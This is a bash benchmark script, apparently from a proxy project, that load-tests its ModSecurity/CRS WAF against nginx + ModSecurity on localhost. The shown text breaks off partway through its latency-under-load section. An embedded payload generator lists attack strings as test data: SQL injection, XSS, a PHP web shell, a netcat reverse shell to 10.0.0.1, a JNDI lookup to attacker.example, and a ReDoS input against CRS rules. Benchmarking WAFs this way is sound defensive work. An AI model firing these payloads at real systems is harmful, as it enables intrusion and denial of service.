#!/usr/bin/env bash
# WAF benchmark: rampart with its WAF (libmodsecurity + OWASP CRS, block mode, profile crs)
# against nginx + ModSecurity (Debian's libnginx-mod-http-modsecurity) with the same rules, in
# front of the same backend, loaded with wrk replaying the benign browser-like corpus
# (corpus/benign/requests.jsonl). Per paranoia level in PARANOIA: rampart-waf-plN (the WAF
# fast path on, the default: a request without a body that no rule could match skips
# libmodsecurity), rampart-waf-nofast-plN (fast_path: off) and nginx-modsec-plN; plain nginx
# and plain rampart once, as reference rows. Prints requests/s, p50/p99, CPU per request, peak
# RSS, the ratios, and the fraction of requests that took the fast path (rampart's /metrics,
# read before and after the measured runs), then a summary against the issue's targets.
# Then a "no freeze" section (first level of PARANOIA only): p99 and max latency of clean
# requests while one connection in ten sends heavy payloads (a large urlencoded body full of
# attack-looking arguments, and an argument that sends CRS's regexes into backtracking).
# See bench/README.md.
#
# Everything listens on 127.0.0.1 only, on ports the kernel picks; every process this script
# starts is stopped on exit. Nothing under /etc is written and no system service is touched.
#
# Environment (all optional):
#   RAMPART_BIN       use this rampart binary instead of building one
#   BUILD_DIR         where to build rampart (default /tmp/rampart-bench-waf-build)
#   CORPUS            JSON-lines request corpus (default corpus/benign/requests.jsonl)
#   CRS_DIR           OWASP CRS 3.x (default /usr/share/modsecurity-crs)
#   PARANOIA          paranoia levels, each with its three WAF targets (default "1 2")
#   BODY_LIMIT        request body limit in bytes, both WAFs (default 1048576)
#   DURATION          seconds of measured load per throughput run (default 5)
#   ROUNDS            rounds over all targets; medians reported (default 3)
#   WARMUP            seconds of warm-up load before each throughput run (default 1)
#   THREADS           wrk threads, throughput runs (default 2)
#   CONNECTIONS       wrk connections, throughput runs (default 32)
#   VERIFY            1: replay every corpus request once against every target first and
#                     report statuses and rule matches (default 1)
#   FREEZE_DURATION   seconds the heavy client runs in each no-freeze run; the clean one runs
#                     2 s longer (default 5; 0 skips the section)
#   FREEZE_ROUNDS     rounds of the no-freeze section (default 2)
#   FREEZE_CLEAN      clean connections beside the one heavy connection (default 9)
#   FREEZE_PACE       ms each clean connection waits between requests (default 20: about 450
#                     req/s at most, below what the WAFs serve; 0: back to back)
#   HEAVY             heavy clients, one run each: any of body, redos, mix (the two in turn)
#                     (default "body redos")
#   REDOS_REPEAT      how many "${" make the redos argument (default 1000: 6 KB urlencoded)
#   WAF_THREADS       rampart's waf.threads (default 2, nginx's worker count)
#   TASKSET           CPU list applied the same way to every target, e.g. "1" (default: none)
#   NO_INSTALL=1      never call apt-get
#   KEEP_TMP=1        keep the temporary directory (configs, logs, wrk outputs)
set -euo pipefail

SRC_DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")/.." && pwd)"
CORPUS="${CORPUS:-$SRC_DIR/corpus/benign/requests.jsonl}"
CRS_DIR="${CRS_DIR:-/usr/share/modsecurity-crs}"
PARANOIA="${PARANOIA:-1 2}"
BODY_LIMIT="${BODY_LIMIT:-1048576}"
DURATION="${DURATION:-5}"
ROUNDS="${ROUNDS:-3}"
WARMUP="${WARMUP:-1}"
THREADS="${THREADS:-2}"
CONNECTIONS="${CONNECTIONS:-32}"
VERIFY="${VERIFY:-1}"
FREEZE_DURATION="${FREEZE_DURATION:-5}"
FREEZE_ROUNDS="${FREEZE_ROUNDS:-2}"
FREEZE_CLEAN="${FREEZE_CLEAN:-9}"
FREEZE_PACE="${FREEZE_PACE:-20}"
HEAVY="${HEAVY:-body redos}"
REDOS_REPEAT="${REDOS_REPEAT:-1000}"
TASKSET="${TASKSET:-}"
BUILD_DIR="${BUILD_DIR:-/tmp/rampart-bench-waf-build}"
# rampart runs libmodsecurity on its own threads (waf.threads), not on the workers' loops;
# as many as nginx's workers, so both WAFs get the same CPU for inspection.
WAF_THREADS="${WAF_THREADS:-2}"

# shellcheck source=bench/lib.sh
source "$SRC_DIR/bench/lib.sh"

read -r -a HEAVY_KINDS <<<"$HEAVY"
for k in "${HEAVY_KINDS[@]}"; do
  case "$k" in body | redos | mix) ;; *) die "HEAVY: body, redos or mix, not $k" ;; esac
done
if ! [[ "$BODY_LIMIT" =~ ^[0-9]+$ ]] || ((BODY_LIMIT < 65536)); then
  die "BODY_LIMIT: a number of bytes, at least 65536"
fi
[[ -f "$CORPUS" ]] || die "no corpus at $CORPUS"
read -r -a LEVELS <<<"$PARANOIA"
((${#LEVELS[@]} > 0)) || die "PARANOIA: at least one level"
for l in "${LEVELS[@]}"; do
  [[ "$l" =~ ^[1-4]$ ]] || die "PARANOIA: levels 1 to 4, not $l"
done
[[ "$(printf '%s\n' "${LEVELS[@]}" | sort -u | wc -l)" == "${#LEVELS[@]}" ]] ||
  die "PARANOIA: a level given twice"

# ---------------------------------------------------------------------------------------------
# Tools

MODSEC_MODULE="${NGINX_MODSEC_MODULE:-/usr/lib/nginx/modules/ngx_http_modsecurity_module.so}"
need_install=()
command -v nginx >/dev/null 2>&1 || need_install+=(nginx-light)
[[ -f "$MODSEC_MODULE" ]] || need_install+=(libnginx-mod-http-modsecurity)
[[ -f "$CRS_DIR/rules/REQUEST-901-INITIALIZATION.conf" ]] || need_install+=(modsecurity-crs)
command -v wrk >/dev/null 2>&1 || need_install+=(wrk)
command -v curl >/dev/null 2>&1 || need_install+=(curl)
command -v python3 >/dev/null 2>&1 || need_install+=(python3)
mapfile -t -O "${#need_install[@]}" need_install < <(build_tools_missing)
install_packages "${need_install[@]}"
NGINX="$(command -v nginx)"
WRK="$(command -v wrk)"
[[ -f "$MODSEC_MODULE" ]] || die "no ModSecurity module at $MODSEC_MODULE"
[[ -f "$CRS_DIR/rules/REQUEST-901-INITIALIZATION.conf" ]] || die "no CRS 3.x in $CRS_DIR"

build_rampart

# rampart's own rule files, for both WAFs: this tree's (rampart's waf.rules_dir).
RULES_DIR="$SRC_DIR/rules"
UNICODE_MAP="$(find_unicode_map)"

make_tmp rampart-bench-waf
CORPUS_TOOL="$SRC_DIR/corpus/benign/corpus.py"
SITE_HOST="shop.example.com"  # the corpus's Host; a numeric Host would match CRS rule 920350

# ---------------------------------------------------------------------------------------------
# Load scripts: the corpus as raw requests for wrk, and the heavy payloads.

python3 "$CORPUS_TOOL" lua "$CORPUS" "$TMP/corpus-requests.lua"
CORPUS_SIZE=$(grep -c '^"' "$TMP/corpus-requests.lua")
# Corpus requests without a body (none, or Content-Length: 0), and form and JSON posts of at
# most 4 KiB: the only ones the fast path may take; the rest (XML, multipart, text and other
# bodies) always go to libmodsecurity. JSON: a type rules/modsecurity.conf's rule 200000 switches
# to libmodsecurity's JSON processor.
CORPUS_NOBODY=$(python3 -c 'import json, sys
reqs = [json.loads(line) for line in open(sys.argv[1]) if line.strip()]
print(sum(1 for r in reqs if not (r.get("body") or r.get("body_base64"))))' "$CORPUS")
CORPUS_TAKEABLE=$(python3 -c 'import json, re, sys
JSON = re.compile(r"^application/(?:[a-z0-9.+-]+\+)?json(?:\s*;|\s*$)")
def takeable(r):
    types = [v for k, v in r.get("headers", []) if k.lower() == "content-type"]
    if len(types) != 1 or len(r.get("body") or "") > 4096 or r.get("body_base64"):
        return False
    t = types[0].lower()
    return t.startswith("application/x-www-form-urlencoded") or JSON.search(t) is not None
reqs = [json.loads(line) for line in open(sys.argv[1]) if line.strip()]
print(sum(1 for r in reqs if not (r.get("body") or r.get("body_base64")) or takeable(r)))' "$CORPUS")
# Each wrk thread cycles through the requests from its own starting point; with pace_ms, each
# connection waits that long after a response before its next request (wrk's delay()).
write_cycle_script() {  # out requests.lua [pace_ms]
  cat >"$1" <<LUA
local reqs = dofile("$2")
local n = #reqs
local i = 0
local threads = 0
function setup(thread)
  thread:set("first", threads * 131)
  threads = threads + 1
end
function init(args)
  i = (first or 0) % n
end
function request()
  i = i % n + 1
  return reqs[i]
end
LUA
  if [[ "${3:-0}" != 0 ]]; then echo "function delay() return $3 end" >>"$1"; fi
}
write_cycle_script "$TMP/corpus.lua" "$TMP/corpus-requests.lua"
write_cycle_script "$TMP/corpus-paced.lua" "$TMP/corpus-requests.lua" "$FREEZE_PACE"

mkdir -p "$TMP/heavy"
# body: a urlencoded body of about 88 % of the limit, one attack-looking argument per ~3 KiB
# (at most 900: rampart's base config answers 400 from 1000 arguments on, before CRS runs).
# redos: one argument of REDOS_REPEAT times "${", which sends the nested quantifiers of CRS
# rules 932100/932105 (Unix command injection) into backtracking; about quadratic in its length.
# mix: the two in turn. Per kind: heavy/KIND.txt (the body), heavy/KIND.lua (raw requests).
python3 - "$TMP/heavy" "$BODY_LIMIT" "$REDOS_REPEAT" "$SITE_HOST" <<'PY'
import sys
from urllib.parse import quote_plus
out, limit, repeat, host = sys.argv[1:5]
limit, repeat = int(limit), int(repeat)
snippets = ["1' OR '1'='1' -- ", "1 UNION SELECT username,password FROM users--",
            "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>",
            "../../../../etc/passwd", ";cat /etc/passwd", "<?php system($_GET['c']); ?>",
            "javascript:alert(1)", "' AND SLEEP(5)#", "| nc -e /bin/sh 10.0.0.1 4444",
            "1;DROP TABLE users", "${jndi:ldap://attacker.example/a}"]
target = limit * 88 // 100
nargs = max(10, min(900, target // 3072))
per = target // nargs
args, k = [], 0
for i in range(nargs):
    v = ""
    while len(quote_plus(v)) < per - 16:
        v += snippets[k % len(snippets)] + " "
        k += 1
    args.append(f"c{i}=" + quote_plus(v))
bodies = {"body": "&".join(args), "redos": "q=" + quote_plus("${" * repeat)}
def raw(body):
    head = (f"POST /search HTTP/1.1\r\nHost: {host}\r\n"
            "User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
            "Chrome/126.0.0.0 Safari/537.36\r\n"
            "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8\r\n"
            "Accept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, deflate, br\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: {len(body)}\r\n\r\n")
    return (head + body).encode()
def lua(data):
    return '"' + "".join(chr(b) if 32 <= b < 127 and b not in (34, 92) else f"\\{b:03d}"
                         for b in data) + '"'
for name, body in bodies.items():
    with open(f"{out}/{name}.txt", "w") as f:
        f.write(body)
    with open(f"{out}/{name}.args", "w") as f:
        f.write(f"{len(body)} {body.count('&') + 1}\n")
for kind, order in (("body", ["body"]), ("redos", ["redos"]), ("mix", ["body", "redos"])):
    with open(f"{out}/{kind}.lua", "w") as f:
        f.write("return {\n" + "".join(lua(raw(bodies[n])) + ",\n" for n in order) + "}\n")
PY
for k in body redos mix; do write_cycle_script "$TMP/heavy-$k.lua" "$TMP/heavy/$k.lua"; done
read -r HEAVY_BODY_BYTES HEAVY_BODY_ARGS <"$TMP/heavy/body.args"
read -r HEAVY_REDOS_BYTES _ <"$TMP/heavy/redos.args"

# ---------------------------------------------------------------------------------------------
# Backend: one nginx worker; GET answers a fixed 1 KiB body, POST reads the whole body first.

BODY_1K="$(head -c 1024 /dev/zero | tr '\0' 'x')"
PORT[backend]="$(free_port)"
mkdir -p "$TMP/backend"
cat >"$TMP/backend/nginx.conf" <<EOF
$(nginx_user)
daemon off;
master_process on;
worker_processes 1;
pid $TMP/backend/nginx.pid;
error_log $TMP/backend/error.log warn;
events { worker_connections 4096; }
http {
  access_log off;
  default_type text/plain;
  keepalive_timeout 75s;
  keepalive_requests 1000000;
  client_max_body_size $((BODY_LIMIT * 2));
  client_body_buffer_size $((BODY_LIMIT * 2));
  $(nginx_temp_paths "$TMP/backend")
  upstream self { server 127.0.0.1:${PORT[backend]}; keepalive 16; }
  server {
    listen 127.0.0.1:${PORT[backend]};
    # A POST to any path goes to the sink: "return" would answer before reading the body.
    if (\$request_method = POST) { rewrite ^ /__sink last; }
    location / { return 200 "$BODY_1K"; }
    # The body is read into memory, then a body-less GET subrequest to /__ok makes the answer.
    location = /__sink {
      internal;
      proxy_method GET;
      proxy_pass_request_body off;
      proxy_set_header Content-Length "";
      proxy_http_version 1.1;
      proxy_set_header Connection "";
      proxy_pass http://self/__ok;
    }
    location = /__ok { return 200 "$BODY_1K"; }
  }
}
EOF
"$NGINX" -p "$TMP/backend" -c "$TMP/backend/nginx.conf" -e "$TMP/backend/error.log" \
  >"$TMP/backend/stdout.log" 2>&1 &
await_started backend "$TMP/backend/error.log" "backend nginx"

# ---------------------------------------------------------------------------------------------
# Targets, all started once; each sits idle while another is loaded. ALOG: access log,
# WAFLOG: where rule matches go (rampart's attack log, nginx's error log). Every rampart has an
# admin listener (ADMIN_PORT) for its /metrics: the fast path's decisions are counted there.

declare -A ALOG WAFLOG ADMIN_PORT

start_rampart() {  # name waf|plain [paranoia] [fast_path on|off]
  local name="$1" dir="$TMP/$1" waf=""
  mkdir -p "$dir"
  PORT[$name]="$(free_port)"
  ADMIN_PORT[$name]="$(free_port)"
  ALOG[$name]="$dir/access.log"
  WAFLOG[$name]=""
  local logging="logging: {access_log: ${ALOG[$name]}, level: warn}"
  if [[ "$2" == waf ]]; then
    WAFLOG[$name]="$dir/attack.log"
    logging="logging: {access_log: ${ALOG[$name]}, attack_log: ${WAFLOG[$name]}, level: warn}"
    waf="
    waf:
      mode: block
      profile: crs  # the rule set nginx + ModSecurity gets, line for line (no signature packs)
      paranoia: $3
      fast_path: $4
      request_body: {limit: $BODY_LIMIT, over_limit: reject}
waf: {crs_dir: $CRS_DIR, rules_dir: $RULES_DIR, threads: $WAF_THREADS}"
  fi
  cat >"$dir/rampart.yaml" <<EOF
workers: 2
listen: [{address: 127.0.0.1:${PORT[$name]}}]
admin: {address: 127.0.0.1:${ADMIN_PORT[$name]}}
pools:
  app:
    servers: [{address: 127.0.0.1:${PORT[backend]}}]
    keepalive: {idle: 64}  # as nginx's "keepalive 64"
routes:
  - match: {path_prefix: /}
    pool: app$waf
timeouts: {drain: 1s}
$logging
EOF
  check_rampart_config "$dir"
  pin "$RAMPART_BIN" run -c "$dir/rampart.yaml" >"$dir/stdout.log" 2>&1 &
  await_started "$name" "$dir/stdout.log" rampart "${ADMIN_PORT[$name]}"
}

# The rule file rampart composes for {profile: crs, paranoia: N} (tx.paranoia_level and
# tx.executing_paranoia_level in SecAction 900000, as rampart writes them): write_modsec_rules.
start_nginx() {  # name modsec|plain [paranoia]
  local name="$1" dir="$TMP/$1" load="" modsec="" level=warn
  mkdir -p "$dir"
  PORT[$name]="$(free_port)"
  ALOG[$name]="$dir/access.log"
  WAFLOG[$name]=""
  if [[ "$2" == modsec ]]; then
    write_modsec_rules "$dir/modsecurity.conf" "$3"
    load="load_module $MODSEC_MODULE;"
    # The connector logs each rule match at "info" (a refusal at "error").
    level=info
    WAFLOG[$name]="$dir/error.log"
    modsec="modsecurity on;
    modsecurity_rules_file $dir/modsecurity.conf;
    modsecurity_transaction_id \"\$request_id\";  # the X-Request-Id below, in its log lines"
  fi
  cat >"$dir/nginx.conf" <<EOF
$load
$(nginx_user)
daemon off;
worker_processes 2;
pid $dir/nginx.pid;
error_log $dir/error.log $level;
events { worker_connections 4096; }
http {
  access_log ${ALOG[$name]};  # the default "combined" format, unbuffered: a write per request
  default_type application/octet-stream;
  keepalive_requests 10000;  # rampart's max_requests_per_connection default
  client_max_body_size $BODY_LIMIT;
  client_body_buffer_size $BODY_LIMIT;  # bodies stay in memory, as in rampart
  $(nginx_temp_paths "$dir")
  upstream backend {
    server 127.0.0.1:${PORT[backend]};
    keepalive 64;
    keepalive_requests 1000000;
  }
  server {
    listen 127.0.0.1:${PORT[$name]} reuseport;  # rampart's listeners are SO_REUSEPORT too
    $modsec
$(nginx_proxy_location)
  }
}
EOF
  pin "$NGINX" -p "$dir" -c "$dir/nginx.conf" -e "$dir/error.log" >"$dir/stdout.log" 2>&1 &
  await_started "$name" "$dir/error.log" nginx
}

# A GET as a browser sends it: curl's own defaults (numeric Host, no Accept-Language) would
# match CRS rules and put records in the WAF logs.
check_site_200() {  # target
  local code
  code=$(curl -s -o /dev/null -w '%{http_code}' --max-time 5 -H "Host: $SITE_HOST" \
    -A "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0" \
    -H "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8" \
    -H "Accept-Language: en-US,en;q=0.5" "http://127.0.0.1:${PORT[$1]}/" || true)
  [[ "$code" == 200 ]] || die "$1 answered $code to GET /"
}

# rampart's /metrics: sets WP_FAST and WP_SLOW to its rampart_waf_fast_path_total counters
# (requests on routes with a fast path, by decision; 0 0 without an admin listener), WP_REM and
# WP_JUD to its rampart_waf_value_memo_total (header, cookie and other repeating values whose
# possible matches were remembered from an earlier request, or checked).
read_waf_path() {  # target
  local text
  WP_FAST=0 WP_SLOW=0 WP_REM=0 WP_JUD=0
  [[ -n "${ADMIN_PORT[$1]:-}" ]] || return 0
  text=$(curl -sf --max-time 5 "http://127.0.0.1:${ADMIN_PORT[$1]}/metrics") ||
    die "no /metrics from $1"
  WP_FAST=$(awk '$1 == "rampart_waf_fast_path_total{decision=\"fast\"}" { print $2 }' <<<"$text")
  WP_SLOW=$(awk '$1 == "rampart_waf_fast_path_total{decision=\"slow\"}" { print $2 }' <<<"$text")
  [[ -n "$WP_FAST" && -n "$WP_SLOW" ]] || die "$1: no rampart_waf_fast_path_total in /metrics"
  WP_REM=$(awk '$1 == "rampart_waf_value_memo_total{result=\"remembered\"}" { print $2 }' \
    <<<"$text")
  WP_JUD=$(awk '$1 == "rampart_waf_value_memo_total{result=\"checked\"}" { print $2 }' \
    <<<"$text")
  WP_REM=${WP_REM:-0} WP_JUD=${WP_JUD:-0}
}
percent() {  # part whole: "NN.N" or n/a
  awk -v a="$1" -v b="$2" 'BEGIN { if (b + 0 == 0) print "n/a"; else printf "%.1f", 100 * a / b }'
}

# Per level: the fast path on (the default), off, and nginx + ModSecurity; then the plain rows.
TARGETS=()
for l in "${LEVELS[@]}"; do
  TARGETS+=("rampart-waf-pl$l" "rampart-waf-nofast-pl$l" "nginx-modsec-pl$l")
done
TARGETS+=(nginx rampart)
# The no-freeze section compares the WAFs at the first level only.
WAF_TARGETS=("rampart-waf-pl${LEVELS[0]}" "nginx-modsec-pl${LEVELS[0]}")

read -r LOAD1 _ </proc/loadavg
if awk -v l="$LOAD1" 'BEGIN { exit !(l > 0.5) }'; then
  log "warning: load average is $LOAD1 before the run: other processes share the CPUs, so" \
    "expect noisy numbers"
fi

for l in "${LEVELS[@]}"; do
  start_rampart "rampart-waf-pl$l" waf "$l" on
  start_rampart "rampart-waf-nofast-pl$l" waf "$l" off
  start_nginx "nginx-modsec-pl$l" modsec "$l"
done
start_nginx nginx plain
start_rampart rampart plain
for t in "${TARGETS[@]}"; do check_site_200 "$t"; done
# rampart leaves the fast path off (and says why at level info) when it cannot compile one for
# the policy: its counters then stay at 0 although a request just went through the route.
for l in "${LEVELS[@]}"; do
  read_waf_path "rampart-waf-pl$l"
  if ((WP_FAST + WP_SLOW == 0)); then
    log "warning: rampart-waf-pl$l counted no fast-path decision: its fast path is off"
  fi
done
MODSEC_RULES=""
for l in "${LEVELS[@]}"; do
  MODSEC_RULES+=" PL$l $(grep -o 'rules loaded inline/local/remote: [0-9/]*' \
    "$TMP/nginx-modsec-pl$l/error.log" | head -1 | awk '{ print $NF }')"
done
log "backend 127.0.0.1:${PORT[backend]}; $(nproc) CPUs; corpus $CORPUS ($CORPUS_SIZE requests," \
  "$CORPUS_NOBODY without a body); nginx ModSecurity rules loaded (inline/local/remote):" \
  "${MODSEC_RULES# }"

# ---------------------------------------------------------------------------------------------
# Verification: every corpus request once, in order, on one connection, against every target;
# statuses from the replay, rule matches from the WAF logs (matched by request id).

declare -A V_OK V_OTHER V_MATCHED V_FAST V_SLOW V_REM V_JUD
sleep_flush() { sleep 1.2; }  # rampart flushes its attack and access logs every second

if [[ "$VERIFY" == 1 ]]; then
  for t in "${TARGETS[@]}"; do
    read_waf_path "$t"
    V_FAST[$t]=$((-WP_FAST)) V_SLOW[$t]=$((-WP_SLOW)) V_REM[$t]=$((-WP_REM)) V_JUD[$t]=$((-WP_JUD))
    python3 "$CORPUS_TOOL" replay "$CORPUS" "127.0.0.1:${PORT[$t]}" >"$TMP/replay-$t.txt" \
      2>"$TMP/replay-$t.err" || { cat "$TMP/replay-$t.err" >&2; die "replay against $t failed"; }
    read_waf_path "$t"
    V_FAST[$t]=$((V_FAST[$t] + WP_FAST)) V_SLOW[$t]=$((V_SLOW[$t] + WP_SLOW))
    V_REM[$t]=$((V_REM[$t] + WP_REM)) V_JUD[$t]=$((V_JUD[$t] + WP_JUD))
  done
  sleep_flush
  for t in "${TARGETS[@]}"; do
    V_OK[$t]=$(awk '$2 == 200' "$TMP/replay-$t.txt" | wc -l)
    V_OTHER[$t]=$(awk '$2 != 200' "$TMP/replay-$t.txt" | wc -l)
    : >"$TMP/matches-$t.txt"
    if [[ -n "${WAFLOG[$t]}" ]]; then
      if [[ "$t" == rampart* ]]; then
        python3 "$CORPUS_TOOL" matches --replay "$TMP/replay-$t.txt" \
          --rampart-attack-log "${WAFLOG[$t]}" >"$TMP/matches-$t.txt"
      else
        python3 "$CORPUS_TOOL" matches --replay "$TMP/replay-$t.txt" \
          --modsec-error-log "${WAFLOG[$t]}" >"$TMP/matches-$t.txt"
      fi
    fi
    V_MATCHED[$t]=$(wc -l <"$TMP/matches-$t.txt")
    log "$(printf 'verify %-22s %4s x 200, %3s other statuses, %3s with rule matches%s' "$t" \
      "${V_OK[$t]}" "${V_OTHER[$t]}" "${V_MATCHED[$t]}" \
      "$( ((V_FAST[$t] + V_SLOW[$t] > 0)) && echo ", ${V_FAST[$t]} on the fast path")")"
  done
  # One line per corpus request on which the targets differ or either WAF matched a rule.
  python3 - "$TMP" "${TARGETS[@]}" >"$TMP/verify-diff.txt" <<'PY'
import sys
tmp, targets = sys.argv[1], sys.argv[2:]
status, matches, order = {}, {}, []
for t in targets:
    for line in open(f"{tmp}/replay-{t}.txt"):
        rid, code, _ = line.split()
        if rid not in status:
            order.append(rid)
        status.setdefault(rid, {})[t] = code
    for line in open(f"{tmp}/matches-{t}.txt"):
        rid, rules = line.split()
        matches.setdefault(rid, {})[t] = rules
for rid in order:
    codes = status[rid]
    if len(set(codes.values())) > 1 or rid in matches:
        print(rid, " ".join(f"{t}={codes.get(t, '-')}"
                            + (f"[{matches[rid][t]}]" if t in matches.get(rid, {}) else "")
                            for t in targets))
PY
  if [[ -s "$TMP/verify-diff.txt" ]]; then
    log "corpus requests refused or matched by a WAF, or answered differently:"
    sed 's/^/[bench]   /' "$TMP/verify-diff.txt" >&2
  fi
fi

# ---------------------------------------------------------------------------------------------
# Throughput: wrk cycling through the corpus, rounds over all targets in rotated order.

declare -A RPS P50 P99 NON2XX SOCKERR CPU RSS WAFLINES FAST SLOW REM JUD
CLK_TCK="$(getconf CLK_TCK)"
RUN_SEQ=0

wrk_field() {  # file what: values from a wrk --latency output
  case "$2" in
    rps) awk '/^Requests\/sec:/ { printf "%.0f", $2 }' "$1" ;;
    requests) awk '/ requests in / { print $1 }' "$1" ;;
    p50) to_ms "$(awk '$1 == "50%" { print $2 }' "$1")" ;;
    p99) to_ms "$(awk '$1 == "99%" { print $2 }' "$1")" ;;
    max) to_ms "$(awk '$1 == "Latency" { print $4; exit }' "$1")" ;;
    non2xx) awk '/Non-2xx/ { n = $NF } END { print n + 0 }' "$1" ;;
    sockerr)
      awk '/Socket errors/ { gsub(",", ""); n = $4 + $6 + $8 + $10 } END { print n + 0 }' "$1" ;;
  esac
}

waf_log_lines() {  # target: records in its WAF log (rampart: attack log lines; nginx: matches)
  local f="${WAFLOG[$1]}"
  if [[ -z "$f" || ! -f "$f" ]]; then echo 0
  elif [[ "$1" == rampart* ]]; then wc -l <"$f"
  else grep -c 'ModSecurity: ' "$f" || true
  fi
}

measure() {  # target
  local t="$1" url="http://127.0.0.1:${PORT[$1]}/"
  RUN_SEQ=$((RUN_SEQ + 1))
  local out="$TMP/wrk-$RUN_SEQ-$t.txt"
  if ((WARMUP > 0)); then
    "$WRK" -t"$THREADS" -c"$CONNECTIONS" -d"${WARMUP}s" -s "$TMP/corpus.lua" "$url" \
      >/dev/null 2>&1 || true
  fi
  local ticks_before ticks_after wl_before fast_before slow_before rem_before jud_before
  wl_before=$(waf_log_lines "$t")
  # The fast path's counters around the measured run only (not the warm-up), outside the
  # CPU-time window: reading /metrics costs rampart a little CPU.
  read_waf_path "$t"
  fast_before=$WP_FAST slow_before=$WP_SLOW rem_before=$WP_REM jud_before=$WP_JUD
  ticks_before=$(cpu_ticks "${PID[$t]}")
  "$WRK" -t"$THREADS" -c"$CONNECTIONS" -d"${DURATION}s" --timeout 10s --latency \
    -s "$TMP/corpus.lua" "$url" >"$out" 2>&1 || { cat "$out" >&2; die "wrk failed for $t"; }
  ticks_after=$(cpu_ticks "${PID[$t]}")
  read_waf_path "$t"
  local fast=$((WP_FAST - fast_before)) slow=$((WP_SLOW - slow_before))
  FAST[$t]=$((${FAST[$t]:-0} + fast)) SLOW[$t]=$((${SLOW[$t]:-0} + slow))
  REM[$t]=$((${REM[$t]:-0} + WP_REM - rem_before)) JUD[$t]=$((${JUD[$t]:-0} + WP_JUD - jud_before))
  local requests cpu_us
  requests=$(wrk_field "$out" requests)
  cpu_us=$(awk -v t=$((ticks_after - ticks_before)) -v hz="$CLK_TCK" -v n="${requests:-0}" \
    'BEGIN { if (n > 0) printf "%.1f", t * 1e6 / hz / n; else print 0 }')
  RPS[$t]+=" $(wrk_field "$out" rps)"
  P50[$t]+=" $(wrk_field "$out" p50)"
  P99[$t]+=" $(wrk_field "$out" p99)"
  NON2XX[$t]+=" $(wrk_field "$out" non2xx)"
  SOCKERR[$t]+=" $(wrk_field "$out" sockerr)"
  CPU[$t]+=" $cpu_us"
  log "$(printf '%-22s %7s req/s  p50 %7s ms  p99 %7s ms  %7s CPU us/req  non-2xx %s%s%s' \
    "$t" "$(wrk_field "$out" rps)" "$(wrk_field "$out" p50)" "$(wrk_field "$out" p99)" \
    "$cpu_us" "$(wrk_field "$out" non2xx)" "  sock err $(wrk_field "$out" sockerr)" \
    "$( ((fast + slow > 0)) && echo "  fast path $(percent "$fast" $((fast + slow))) %")")"
  # The WAF log grows only when a rule matched: count it after the asynchronous flush, below.
  WAFLINES[$t]=$((${WAFLINES[$t]:-0} - wl_before))
}

if ((ROUNDS > 0)); then
  log "throughput: $ROUNDS rounds of wrk -t$THREADS -c$CONNECTIONS -d${DURATION}s" \
    "(+${WARMUP}s warm-up) over the corpus, order rotated each round"
fi
n=${#TARGETS[@]}
for ((r = 0; r < ROUNDS; r++)); do
  for ((i = 0; i < n; i++)); do
    t="${TARGETS[$(((i + r) % n))]}"
    measure "$t"
    sleep_flush
    WAFLINES[$t]=$((${WAFLINES[$t]} + $(waf_log_lines "$t")))
  done
done
for t in "${TARGETS[@]}"; do RSS[load/$t]=$(peak_rss_kib "${PID[$t]}"); done

# ---------------------------------------------------------------------------------------------
# No freeze: FREEZE_CLEAN connections replay the corpus (wrk -t1) while one connection sends
# heavy payloads back to back (a second wrk, -c1, for FREEZE_DURATION); the same without the
# heavy one as baseline. The clean wrk runs CLEAN_TAIL seconds longer than the heavy one: wrk
# never records a request still in flight when it stops, so a clean request stalled behind the
# last heavy one would otherwise go uncounted. --timeout 60s: wrk leaves requests slower than
# its timeout out of the latency statistics.
CLEAN_TAIL=2

declare -A F_RPS F_P50 F_P99 F_MAX F_ERR F_HREQ F_HNON2XX ALONE

wait_idle() {  # target: until it used no CPU for 0.5 s (at most 60 s), so runs do not overlap
  local a b i
  a=$(cpu_ticks "${PID[$1]}")
  for i in $(seq 120); do
    sleep 0.5
    b=$(cpu_ticks "${PID[$1]}")
    [[ "$a" == "$b" ]] && return 0
    a=$b
  done
  log "warning: $1 still busy after 60 s"
}

time_alone() {  # target kind: seconds and status of one heavy request on an idle target
  curl -s -o /dev/null -w '%{time_total} %{http_code}' --max-time 120 -H "Host: $SITE_HOST" \
    -A "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0" \
    -H "Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8" \
    -H "Accept-Language: en-US,en;q=0.5" -H "Content-Type: application/x-www-form-urlencoded" \
    --data-binary @"$TMP/heavy/$2.txt" "http://127.0.0.1:${PORT[$1]}/search" || echo "- 000"
}

measure_freeze() {  # target variant (none or a heavy kind)
  local t="$1" v="$2" key="$1/$2" url="http://127.0.0.1:${PORT[$1]}/" hpid=""
  RUN_SEQ=$((RUN_SEQ + 1))
  local out="$TMP/wrk-$RUN_SEQ-freeze-$t-$v.txt" hout="$TMP/wrk-$RUN_SEQ-freeze-$t-$v-heavy.txt"
  if [[ "$v" != none ]]; then
    "$WRK" -t1 -c1 -d"${FREEZE_DURATION}s" --timeout 60s -s "$TMP/heavy-$v.lua" "$url" \
      >"$hout" 2>&1 &
    hpid=$!
    PIDS+=("$hpid")
    sleep 0.2  # the heavy client is at work when the clean ones start
  fi
  "$WRK" -t1 -c"$FREEZE_CLEAN" -d"$((FREEZE_DURATION + CLEAN_TAIL))s" --timeout 60s --latency \
    -s "$TMP/corpus-paced.lua" "$url" >"$out" 2>&1 || { cat "$out" >&2; die "wrk failed for $key"; }
  if [[ -n "$hpid" ]]; then
    wait "$hpid" || true
    F_HREQ[$key]+=" $(wrk_field "$hout" requests)"
    F_HNON2XX[$key]+=" $(wrk_field "$hout" non2xx)"
  fi
  F_RPS[$key]+=" $(wrk_field "$out" rps)"
  F_P50[$key]+=" $(wrk_field "$out" p50)"
  F_P99[$key]+=" $(wrk_field "$out" p99)"
  F_MAX[$key]+=" $(wrk_field "$out" max)"
  F_ERR[$key]+=" $(($(wrk_field "$out" non2xx) + $(wrk_field "$out" sockerr)))"
